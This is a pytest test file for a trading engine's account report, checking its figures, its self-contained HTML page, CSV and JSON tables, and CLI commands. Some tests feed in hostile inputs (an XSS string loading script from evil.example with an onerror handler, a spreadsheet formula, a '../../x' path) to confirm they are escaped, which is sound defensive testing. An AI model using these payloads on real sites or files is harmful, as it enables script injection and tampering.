"""The report on an account: its figures, its page, its tables, and who writes it."""

from __future__ import annotations

import csv
import gzip
import io
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner

from engine.analytics import Span, merged, traded, trades
from engine.performance.attribution import UNTOLD, Reasons
from engine.portfolio import PortfolioSettings
from engine.spans import DAY, SECOND
from gateway.cli import app
from gateway.reports.plots import thinned
from gateway.reports.report import NoFormat, Report, Wanted, file_name
from gateway.watching.books import Book, books
from infra.recordings import MARKET
from schemas import names
from schemas.codec import encode
from schemas.decisions import Verdict
from schemas.instruments import Kind
from schemas.orders import Contract
from schemas.record import Record
from tests.unit.portfolio_play import LINEAR, Play
from tests.unit.test_cli_pnl import Message
from tests.unit.test_performance_fills import decision, order, vote
from topics.settings import Settings, settings

D = Decimal
RULES = PortfolioSettings()
PLAIN = Contract(kind=Kind.LINEAR)
HOSTILE = "</title><script src=//evil.example/x.js>alert(1)</script>\"'><img src=x onerror=y>&"
FORMULA = "=HYPERLINK(1)"


def traded_book(strategy: str = "main", rounds: int = 12) -> Book:
    """Long 1 from 100 for 3 s, then out at a little more or less; a fee of 0.5 a fill."""
    desk = Play()
    fields: dict[str, Any] = {
        "contract": PLAIN, "fee": "0.5", "strategy": strategy, "liquidity": "taker", "mark": "100",
    }  # fmt: skip
    for number in range(rounds):
        desk.now = number * 5 * SECOND
        desk.fill("buy", "101", "1", LINEAR, **fields)
        desk.now += 3 * SECOND
        desk.fill("sell", str(102 + number % 4 * (-1) ** number), "1", LINEAR, **fields)
    return books(desk.statuses, RULES)["paper"]


def reported(book: Book, account: str = "paper", **wanted: Any) -> Report:
    return Report.of(account, book, Reasons(), RULES, Wanted(Path(), **wanted))


def test_its_figures_are_those_of_the_statuses() -> None:
    book = traded_book()
    told = reported(book, tries=5).told
    whole = merged(traded(book.statuses, Span(), RULES).values())
    known = trades(whole.trips)
    assert (told["closed"], told["won"], told["win_rate"]) == (12, known.won, known.win_rate)
    assert told["profit_factor"] == known.profit_factor
    assert D(told["costs"]["fees"]) == D(12)
    assert D(told["costs"]["spread"]) == sum(
        (D(row.price or 0) - 100) * (1 if row.side == "buy" else -1) for row in book.statuses
    )
    assert D(told["equity"]) - D(told["start"]) == D(told["pnl"]) == known.net
    assert told["exposure"]["in_market"] == pytest.approx(36 / 58, rel=1e-9)
    assert told["period"] == {"name": "second", "count": 59}
    assert told["deflated_sharpe"]["tries"] == 5
    assert told["no_edge"]["count"] == 58
    assert told["by_way_out"][0]["closed"] == 12
    assert set(told["bootstrap"]["intervals"]) == {
        "mean_return", "total_return", "sharpe", "max_drawdown",
    }  # fmt: skip


def test_time_in_which_nothing_happened_counts() -> None:
    desk = Play()
    desk.fill("buy", "100", "1", LINEAR, contract=PLAIN)
    desk.now = SECOND
    desk.fill("sell", "1100", "1", LINEAR, contract=PLAIN)
    desk.now = 365 * DAY
    desk.mark("1100")
    told = reported(books(desk.statuses, RULES)["paper"]).told
    assert told["to"] == "1971-01-01T00:00:00.000Z"
    assert told["cagr"] == pytest.approx(0.1)
    assert told["period"] == {"name": "day", "count": 366}
    assert len(told["monthly"]) == 2


def test_the_same_records_give_the_same_report() -> None:
    one, two = reported(traded_book()), reported(traded_book())
    assert one.as_json() == two.as_json()


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "line", "rect", "path"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag not in ("line", "rect", "path"):
            assert self.open.pop() == tag


def page_of(tmp_path: Path, book: Book, account: str = "paper") -> str:
    wanted = Wanted(tmp_path, ("html",))
    (path,) = Report.of(account, book, Reasons(), RULES, wanted).write(wanted)
    assert path.parent == tmp_path
    return path.read_text()


@pytest.mark.parametrize("name", ["main", HOSTILE])
def test_the_page_needs_nothing_else_and_runs_nothing(tmp_path: Path, name: str) -> None:
    found = Tags(page_of(tmp_path, traded_book(name), name))
    assert found.open == []
    assert {tag for tag, _ in found.tags} <= {
        "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "table", "tr",
        "td", "th", "svg", "path", "line", "rect", "text",
    }  # fmt: skip
    for _, attributes in found.tags:
        assert not [key for key in attributes if key.startswith("on")]
        assert not {"src", "href", "style", "xlink:href", "srcset", "data", "action"} & set(
            attributes
        )
    assert sum(tag == "svg" for tag, _ in found.tags) == 3


def test_the_page_refers_to_nothing_elsewhere(tmp_path: Path) -> None:
    page = page_of(tmp_path, traded_book())
    assert not [word for word in ("http:", "https:", "//", "url(", "@import") if word in page]
    assert "default-src 'none'" in page


def test_a_name_is_shown_as_it_is(tmp_path: Path) -> None:
    page = page_of(tmp_path, traded_book(HOSTILE))
    assert "&lt;script src=//evil.example/x.js&gt;" in page
    assert "<script" not in page


def test_an_account_that_has_not_traded_has_a_page(tmp_path: Path) -> None:
    desk = Play()
    desk.mark("100")
    assert "Nothing was traded." in page_of(tmp_path, books(desk.statuses, RULES)["paper"])


def test_tables_are_whole_and_no_cell_is_a_formula(tmp_path: Path) -> None:
    wanted = Wanted(tmp_path, ("csv", "json"))
    made = Report.of("paper", traded_book(FORMULA), Reasons(), RULES, wanted)
    files = {path.name: path.read_text() for path in made.write(wanted)}
    rows = {name: [*csv.reader(io.StringIO(told))] for name, told in files.items()}
    assert len(rows["paper-trades.csv"]) == 13
    assert {row[1] for row in rows["paper-trades.csv"][1:]} == {f"'{FORMULA}"}
    assert min(D(row[5]) for row in rows["paper-trades.csv"][1:]) < 0  # no formula
    assert [row[1] for row in rows["paper-equity.csv"][1:]] == [f"{w:f}" for _, w in made.curve]
    told = dict(rows["paper-figures.csv"][1:])
    assert told["win_rate"] == str(made.told["win_rate"])
    assert told["costs.fees"] == "12"
    assert len(orjson.loads(files["paper.json"])["round_trips"]) == 12


def test_a_file_is_named_after_its_account_and_stays_where_it_is() -> None:
    assert [file_name(each) for each in ("paper-1", "../../x", "a/b", "")] == [
        "paper-1", "______x", "a_b", "_",
    ]  # fmt: skip


def test_formats_are_named() -> None:
    assert Wanted.of(Path(), "csv, html", 1, None, 1).formats == ("html", "csv")
    for given in ("txt", "", "html,doc"):
        with pytest.raises(NoFormat, match="html, json, csv"):
            Wanted.of(Path(), given, 1, None, 1)


def test_thinning_keeps_ends_and_extremes() -> None:
    dots = [(float(at), float((at * 7919) % 10007)) for at in range(50_000)]
    dots[12_345], dots[23_456] = (12_345.0, -1.0), (23_456.0, 1e5)
    found = thinned(dots, 100)
    assert len(found) <= 404
    assert (found[0], found[-1]) == (dots[0], dots[-1])
    assert {(12_345.0, -1.0), (23_456.0, 1e5)} <= set(found)
    assert found == sorted(found)
    assert thinned(dots[:9], 100) == dots[:9]


def test_the_backtest_writes_it(tmp_path: Path) -> None:
    file = tmp_path / "usdm" / "btcusdt.gz"
    file.parent.mkdir()
    with gzip.open(MARKET[0], "rb") as whole:
        file.write_bytes(gzip.compress(b"".join(line for _, line in zip(range(9000), whole))))  # noqa: B905
    there = tmp_path / "made" / "report"
    given = ["backtest", str(file), "--report", str(there), "--format", "html,json", "--json"]
    told = CliRunner().invoke(app, given)
    assert told.exit_code == 0, told.output
    found = orjson.loads(told.stdout.splitlines()[-1])
    assert sorted(Path(each).name for each in found["files"]) == ["paper.html", "paper.json"]
    whole_report = orjson.loads((there / "paper.json").read_bytes())
    assert whole_report.pop("round_trips") is not None
    assert found["report"] == whole_report
    bad = CliRunner().invoke(app, [*given[:5], "doc"])
    assert bad.exit_code == 1
    assert "a report is html, json, csv" in bad.output


@pytest.fixture
def topics(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[dict[str, list[Record]]]:
    """Records of topics by name; no broker."""
    there: dict[str, list[Record]] = {}

    def read_all(_: Settings, topic: str) -> Iterator[Message]:
        yield from (Message(each.key, encode(each)) for each in there.get(topic, ()))

    monkeypatch.setenv("TAPELINE_HOME", str(tmp_path))
    monkeypatch.setattr("gateway.watching.pnl.read_all", read_all)
    monkeypatch.setattr("gateway.reports.past.read_all", read_all)
    monkeypatch.setattr("gateway.running.broker.answers", lambda _: True)
    monkeypatch.setenv("BROKER_URL", "127.0.0.1:9")
    settings.cache_clear()
    yield there
    settings.cache_clear()


def past(directory: Path, *more: str) -> Any:
    return CliRunner().invoke(app, ["report", str(directory), "--format", "json", "--json", *more])


def test_the_topics_give_the_same_report(topics: dict[str, list[Record]], tmp_path: Path) -> None:
    book = traded_book()
    first = book.statuses[0].client_order_id or ""
    topics[names.STATUSES] = [*book.statuses, *book.statuses[-2:]]
    topics[names.DECISIONS] = [
        decision("d1", Verdict.LONG, vote("rule", Verdict.LONG, "RSI 28 below 30"), key="k", seq=0)
    ]
    topics[names.ORDERS] = [order("d1", first, key="k", seq=0)]
    result = past(tmp_path / "made")
    assert result.exit_code == 0, result.output
    told = orjson.loads(result.stdout)["report"]
    known = orjson.loads(orjson.dumps(reported(book).told))
    reasons = {row["reason"]: row["closed"] for row in told.pop("by_reason")}
    assert reasons == {UNTOLD: 11, "rule: RSI # below #": 1}
    for each in (told, known):  # a decision is known of one fill more
        each.pop("by_reason", None)
        each["costs"].pop("fills_without_decision")
        each["costs"].pop("delay")
        each["by_symbol"][0].pop("delay")
    assert told == known


def test_statuses_that_are_gone_are_told(topics: dict[str, list[Record]], tmp_path: Path) -> None:
    topics[names.STATUSES] = [*traded_book().statuses[2:]]
    result = past(tmp_path / "made")
    assert result.exit_code == 1
    assert "paper: its first statuses are gone" in result.stderr
    topics[names.STATUSES] = []
    assert "nothing to report" in past(tmp_path / "made").stderr
